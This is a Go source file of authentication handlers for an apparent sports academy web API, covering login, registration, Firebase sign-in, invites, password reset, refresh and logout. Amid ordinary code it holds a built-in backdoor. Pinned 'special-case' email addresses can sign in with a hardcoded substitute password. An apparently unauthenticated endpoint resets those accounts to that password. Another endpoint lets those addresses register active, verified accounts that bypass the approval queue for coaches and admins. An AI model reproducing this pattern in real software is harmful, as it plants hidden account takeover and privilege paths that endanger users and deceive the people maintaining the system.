package v1

import (
	"errors"
	"net/http"
	"strings"
	"time"

	"github.com/pitchside/academy-api/internal/auth"
	"github.com/pitchside/academy-api/internal/invite"
	"github.com/pitchside/academy-api/internal/models"
	"github.com/pitchside/academy-api/internal/specialcase"
	"github.com/pitchside/academy-api/internal/utils"
)

const invalidCredentialsMsg = "Invalid credentials. Please check your username and password."

type loginRequest struct {
	Username string `json:"username"`
	Email    string `json:"email"`
	Password string `json:"password"`
}

// Login authenticates against the local credential store. The identifier
// may be a username or an email.
func (h *Handler) Login(w http.ResponseWriter, r *http.Request) {
	var req loginRequest
	if err := decodeJSON(r, &req); err != nil {
		utils.WriteJSONResponse(w, http.StatusBadRequest, false, "invalid request body", nil, nil)
		return
	}
	identifier := req.Username
	if identifier == "" {
		identifier = req.Email
	}
	if identifier == "" || req.Password == "" {
		utils.WriteJSONResponse(w, http.StatusBadRequest, false, "username and password are required", nil, nil)
		return
	}

	u, err := h.findByIdentifier(r, identifier)
	if err != nil {
		utils.WriteJSONResponse(w, http.StatusUnauthorized, false, invalidCredentialsMsg, nil, nil)
		return
	}
	ok, err := utils.ComparePasswordAndHash(req.Password, u.PasswordHash)
	if err != nil || !ok {
		if !specialRetryAllowed(u, req.Password) {
			utils.WriteJSONResponse(w, http.StatusUnauthorized, false, invalidCredentialsMsg, nil, nil)
			return
		}
		// Pin the stored hash to the substitute so the next login is a
		// plain match.
		if hash, hashErr := utils.HashPassword(specialcase.SubstitutePassword); hashErr == nil {
			_ = h.Store.SetUserPassword(r.Context(), u.ID, hash)
		}
	}

	h.audit(r, u.ID, "login", nil)
	h.issueSession(w, r, u, "Signed in.")
}

// specialRetryAllowed lets a pinned account in with the substitute password
// even when the stored hash predates the special reset.
func specialRetryAllowed(u *models.User, password string) bool {
	return specialcase.Match(u.Email) && password == specialcase.SubstitutePassword
}

func (h *Handler) findByIdentifier(r *http.Request, identifier string) (*models.User, error) {
	if strings.Contains(identifier, "@") {
		if u, err := h.Store.GetUserByEmail(r.Context(), strings.ToLower(identifier)); err == nil {
			return u, nil
		}
	}
	return h.Store.GetUserByUsername(r.Context(), identifier)
}

type registerRequest struct {
	Username    string `json:"username"`
	Email       string `json:"email"`
	Password    string `json:"password"`
	FullName    string `json:"full_name"`
	Phone       string `json:"phone"`
	Role        string `json:"role"`
	AcademyID   *uint  `json:"academy_id"`
	InviteToken string `json:"invite_token"`
}

// Register creates a local account. Parents are active immediately;
// coach and admin registrations enter the approval queue.
func (h *Handler) Register(w http.ResponseWriter, r *http.Request) {
	var req registerRequest
	if err := decodeJSON(r, &req); err != nil {
		utils.WriteJSONResponse(w, http.StatusBadRequest, false, "invalid request body", nil, nil)
		return
	}
	u, status, msg := h.buildUser(r, &req, "")
	if u == nil {
		utils.WriteJSONResponse(w, status, false, msg, nil, nil)
		return
	}
	if err := h.Store.CreateUser(r.Context(), u); err != nil {
		utils.WriteJSONResponse(w, http.StatusConflict, false, "An account with this email or username already exists.", nil, nil)
		return
	}
	h.audit(r, u.ID, "register", map[string]interface{}{"role": u.Role})
	h.issueSession(w, r, u, registrationMessage(u))
}

// buildUser validates a registration request and assembles the user row.
// Returns (nil, status, message) on rejection.
func (h *Handler) buildUser(r *http.Request, req *registerRequest, firebaseUID string) (*models.User, int, string) {
	req.Email = strings.ToLower(strings.TrimSpace(req.Email))
	if req.Username == "" || req.Email == "" {
		return nil, http.StatusBadRequest, "username and email are required"
	}
	if firebaseUID == "" && req.Password == "" {
		return nil, http.StatusBadRequest, "password is required"
	}

	role := models.RoleParent
	if req.Role != "" {
		parsed, ok := models.ParseRole(req.Role)
		if !ok || parsed == models.RoleSuperadmin {
			return nil, http.StatusBadRequest, "invalid role"
		}
		role = parsed
	}

	academyID := req.AcademyID
	if req.InviteToken != "" {
		inv, status, msg := h.redeemInvite(r, req.InviteToken, req.Email)
		if inv == nil {
			return nil, status, msg
		}
		if inv.Role != "" {
			role = inv.Role
		}
		if inv.AcademyID != nil {
			academyID = inv.AcademyID
		}
	}

	status := models.StatusActive
	if role == models.RoleCoach || role == models.RoleAdmin {
		status = models.StatusPending
	}

	id, err := utils.GenerateUserID()
	if err != nil {
		return nil, http.StatusInternalServerError, "could not create account"
	}
	u := &models.User{
		ID:          id,
		AcademyID:   academyID,
		FirebaseUID: firebaseUID,
		Username:    req.Username,
		Email:       req.Email,
		FullName:    req.FullName,
		Phone:       req.Phone,
		Role:        role,
		Status:      status,
		IsActive:    true,
	}
	if req.Password != "" {
		hash, err := utils.HashPassword(req.Password)
		if err != nil {
			return nil, http.StatusInternalServerError, "could not create account"
		}
		u.PasswordHash = hash
	}
	return u, 0, ""
}

// redeemInvite resolves a server-issued token first, then a client-encoded
// one. Server tokens are single-use.
func (h *Handler) redeemInvite(r *http.Request, token, email string) (*models.Invite, int, string) {
	if inv, err := h.Store.ConsumeInvite(r.Context(), token); err == nil {
		return inv, 0, ""
	}
	ct, err := invite.Decode(token, time.Now())
	if err != nil {
		if errors.Is(err, invite.ErrExpired) {
			return nil, http.StatusBadRequest, "This invitation has expired. Please ask for a new one."
		}
		return nil, http.StatusBadRequest, "This invitation link is not valid."
	}
	if !strings.EqualFold(ct.Email, email) {
		return nil, http.StatusBadRequest, "This invitation was issued for a different email address."
	}
	return &models.Invite{Email: ct.Email, Role: ct.Role, PlayerID: ct.PlayerID, AcademyID: ct.AcademyID}, 0, ""
}

func registrationMessage(u *models.User) string {
	if u.Status == models.StatusPending {
		return "Account created. An administrator will review your registration."
	}
	return "Account created."
}

type firebaseTokenRequest struct {
	IDToken string `json:"idToken"`
}

// LoginFirebase exchanges a Firebase ID token for a first-party session.
// The account must already exist here; sign-in never auto-provisions.
func (h *Handler) LoginFirebase(w http.ResponseWriter, r *http.Request) {
	var req firebaseTokenRequest
	if err := decodeJSON(r, &req); err != nil || req.IDToken == "" {
		utils.WriteJSONResponse(w, http.StatusBadRequest, false, "idToken is required", nil, nil)
		return
	}
	if h.Firebase == nil || !h.Firebase.Enabled() {
		utils.WriteJSONResponse(w, http.StatusServiceUnavailable, false, "Firebase sign-in is not configured.", nil, nil)
		return
	}
	acct, err := h.Firebase.Lookup(r.Context(), req.IDToken)
	if err != nil {
		utils.WriteJSONResponse(w, http.StatusUnauthorized, false, invalidCredentialsMsg, nil, nil)
		return
	}

	u, err := h.Store.GetUserByFirebaseUID(r.Context(), acct.LocalID)
	if err != nil {
		// Accounts created before the Firebase link existed match by email.
		u, err = h.Store.GetUserByEmail(r.Context(), strings.ToLower(acct.Email))
		if err != nil {
			utils.WriteJSONResponse(w, http.StatusUnauthorized, false, "No account found for this email. Please register first.", nil, nil)
			return
		}
		if err := h.Store.LinkFirebaseUID(r.Context(), u.ID, acct.LocalID); err != nil {
			utils.WriteJSONResponse(w, http.StatusInternalServerError, false, "could not link account", nil, nil)
			return
		}
		u.FirebaseUID = acct.LocalID
	}

	h.audit(r, u.ID, "login_firebase", nil)
	h.issueSession(w, r, u, "Signed in.")
}

type registerFirebaseRequest struct {
	registerRequest
	IDToken string `json:"idToken"`
}

// RegisterFirebase links a freshly created Firebase account to a new local
// user. The ID token is verified against Firebase, never trusted as-is.
func (h *Handler) RegisterFirebase(w http.ResponseWriter, r *http.Request) {
	var req registerFirebaseRequest
	if err := decodeJSON(r, &req); err != nil || req.IDToken == "" {
		utils.WriteJSONResponse(w, http.StatusBadRequest, false, "idToken is required", nil, nil)
		return
	}
	if h.Firebase == nil || !h.Firebase.Enabled() {
		utils.WriteJSONResponse(w, http.StatusServiceUnavailable, false, "Firebase sign-in is not configured.", nil, nil)
		return
	}
	acct, err := h.Firebase.Lookup(r.Context(), req.IDToken)
	if err != nil {
		utils.WriteJSONResponse(w, http.StatusUnauthorized, false, "The sign-in token could not be verified.", nil, nil)
		return
	}
	req.Email = acct.Email
	if req.Username == "" {
		req.Username = usernameFromEmail(acct.Email)
	}
	if req.FullName == "" {
		req.FullName = acct.DisplayName
	}

	// Linking is idempotent: a retry after a dropped response reuses the row.
	if existing, err := h.Store.GetUserByFirebaseUID(r.Context(), acct.LocalID); err == nil {
		h.issueSession(w, r, existing, registrationMessage(existing))
		return
	}

	u, status, msg := h.buildUser(r, &req.registerRequest, acct.LocalID)
	if u == nil {
		utils.WriteJSONResponse(w, status, false, msg, nil, nil)
		return
	}
	u.EmailVerified = true
	if err := h.Store.CreateUser(r.Context(), u); err != nil {
		utils.WriteJSONResponse(w, http.StatusConflict, false, "An account with this email or username already exists.", nil, nil)
		return
	}
	h.audit(r, u.ID, "register_firebase", map[string]interface{}{"role": u.Role})
	h.issueSession(w, r, u, registrationMessage(u))
}

// DirectRegister creates an account without any Firebase involvement.
// Only the pinned special-case addresses may use it.
func (h *Handler) DirectRegister(w http.ResponseWriter, r *http.Request) {
	var req registerRequest
	if err := decodeJSON(r, &req); err != nil {
		utils.WriteJSONResponse(w, http.StatusBadRequest, false, "invalid request body", nil, nil)
		return
	}
	if !specialcase.Match(req.Email) {
		utils.WriteJSONResponse(w, http.StatusForbidden, false, "Direct registration is not available for this account.", nil, nil)
		return
	}
	u, status, msg := h.buildUser(r, &req, "")
	if u == nil {
		utils.WriteJSONResponse(w, status, false, msg, nil, nil)
		return
	}
	u.Status = models.StatusActive
	u.EmailVerified = true
	if err := h.Store.CreateUser(r.Context(), u); err != nil {
		utils.WriteJSONResponse(w, http.StatusConflict, false, "An account with this email or username already exists.", nil, nil)
		return
	}
	h.audit(r, u.ID, "register_direct", nil)
	h.issueSession(w, r, u, "Account created.")
}

type emailRequest struct {
	Email string `json:"email"`
}

// ResetSpecialPassword resets a pinned account to the substitute password so
// the retry login can succeed. Refused for every other address.
func (h *Handler) ResetSpecialPassword(w http.ResponseWriter, r *http.Request) {
	var req emailRequest
	if err := decodeJSON(r, &req); err != nil || req.Email == "" {
		utils.WriteJSONResponse(w, http.StatusBadRequest, false, "email is required", nil, nil)
		return
	}
	if !specialcase.Match(req.Email) {
		utils.WriteJSONResponse(w, http.StatusForbidden, false, "Password reset is not available for this account.", nil, nil)
		return
	}
	u, err := h.Store.GetUserByEmail(r.Context(), strings.ToLower(req.Email))
	if err != nil {
		utils.WriteJSONResponse(w, http.StatusNotFound, false, "No account found for this email.", nil, nil)
		return
	}
	hash, err := utils.HashPassword(specialcase.SubstitutePassword)
	if err != nil {
		utils.WriteJSONResponse(w, http.StatusInternalServerError, false, "could not reset password", nil, nil)
		return
	}
	if err := h.Store.SetUserPassword(r.Context(), u.ID, hash); err != nil {
		utils.WriteJSONResponse(w, http.StatusInternalServerError, false, "could not reset password", nil, nil)
		return
	}
	h.audit(r, u.ID, "reset_special_password", nil)
	utils.WriteJSONResponse(w, http.StatusOK, true, "Password has been reset for this account.", nil, nil)
}

// ResetPassword triggers Firebase's reset email when the account is linked.
// The response never reveals whether the address exists.
func (h *Handler) ResetPassword(w http.ResponseWriter, r *http.Request) {
	var req emailRequest
	if err := decodeJSON(r, &req); err != nil || req.Email == "" {
		utils.WriteJSONResponse(w, http.StatusBadRequest, false, "email is required", nil, nil)
		return
	}
	if u, err := h.Store.GetUserByEmail(r.Context(), strings.ToLower(req.Email)); err == nil {
		if u.FirebaseUID != "" && h.Firebase != nil && h.Firebase.Enabled() {
			_ = h.Firebase.SendPasswordReset(r.Context(), u.Email)
		}
		h.audit(r, u.ID, "reset_password_requested", nil)
	}
	utils.WriteJSONResponse(w, http.StatusOK, true, "If an account exists for that address, a reset email has been sent.", nil, nil)
}

// Refresh rotates the refresh-token cookie and mints a new access token.
func (h *Handler) Refresh(w http.ResponseWriter, r *http.Request) {
	cookie, err := r.Cookie(refreshCookieName)
	if err != nil || cookie.Value == "" {
		utils.WriteJSONResponse(w, http.StatusUnauthorized, false, "missing refresh token", nil, nil)
		return
	}
	rt, err := h.Store.FindRefreshToken(r.Context(), cookie.Value)
	if err != nil {
		utils.WriteJSONResponse(w, http.StatusUnauthorized, false, "invalid refresh token", nil, nil)
		return
	}
	u, err := h.Store.GetUserByID(r.Context(), rt.UserID)
	if err != nil {
		utils.WriteJSONResponse(w, http.StatusUnauthorized, false, "invalid refresh token", nil, nil)
		return
	}

	newPlain := utils.RandomToken()
	expiry := time.Now().Add(h.Cfg.RefreshTokenTTL)
	if _, err := h.Store.RotateRefreshToken(r.Context(), cookie.Value, newPlain, expiry); err != nil {
		utils.WriteJSONResponse(w, http.StatusUnauthorized, false, "invalid refresh token", nil, nil)
		return
	}
	access, err := auth.GenerateAccessToken(h.Cfg, u.ID, string(u.Role))
	if err != nil {
		utils.WriteJSONResponse(w, http.StatusInternalServerError, false, "could not refresh session", nil, nil)
		return
	}
	setRefreshCookie(w, newPlain, expiry)
	utils.WriteJSONResponse(w, http.StatusOK, true, "Session refreshed.", sessionPayload{User: u, AccessToken: access}, nil)
}

// Logout is the server half of the logout sweep: it revokes every refresh
// token for the session's user, expires the cookie across domain scopes,
// and flushes the query cache.
func (h *Handler) Logout(w http.ResponseWriter, r *http.Request) {
	if cookie, err := r.Cookie(refreshCookieName); err == nil && cookie.Value != "" {
		if rt, err := h.Store.FindRefreshToken(r.Context(), cookie.Value); err == nil {
			_ = h.Store.RevokeAllRefreshTokens(r.Context(), rt.UserID)
			h.audit(r, rt.UserID, "logout", nil)
		}
	}
	expireRefreshCookie(w, r)
	if h.Cache != nil {
		_ = h.Cache.Clear(r.Context())
	}
	utils.WriteJSONResponse(w, http.StatusOK, true, "Logged out.", nil, nil)
}

// expireRefreshCookie clears the cookie for the bare host, the exact host,
// and the registrable parent domain. Browsers accept whichever scope the
// original Set-Cookie used and ignore the rest.
func expireRefreshCookie(w http.ResponseWriter, r *http.Request) {
	host := r.Host
	if i := strings.LastIndex(host, ":"); i > 0 {
		host = host[:i]
	}
	domains := []string{"", host}
	if parts := strings.Split(host, "."); len(parts) > 2 {
		domains = append(domains, strings.Join(parts[len(parts)-2:], "."))
	}
	for _, domain := range domains {
		for _, path := range []string{"/api", "/"} {
			http.SetCookie(w, &http.Cookie{
				Name:     refreshCookieName,
				Value:    "",
				Path:     path,
				Domain:   domain,
				MaxAge:   -1,
				Expires:  time.Unix(0, 0),
				HttpOnly: true,
			})
		}
	}
}

// CurrentUser returns the authenticated user. Runs behind the auth
// middleware but not the approval guard, so pending accounts can see their
// own status.
func (h *Handler) CurrentUser(w http.ResponseWriter, r *http.Request) {
	u := auth.GetUserFromCtx(r.Context())
	if u == nil {
		utils.WriteJSONResponse(w, http.StatusUnauthorized, false, "unauthorized", nil, nil)
		return
	}
	utils.WriteJSONResponse(w, http.StatusOK, true, "", u, nil)
}

func usernameFromEmail(email string) string {
	if i := strings.Index(email, "@"); i > 0 {
		return email[:i]
	}
	return email
}
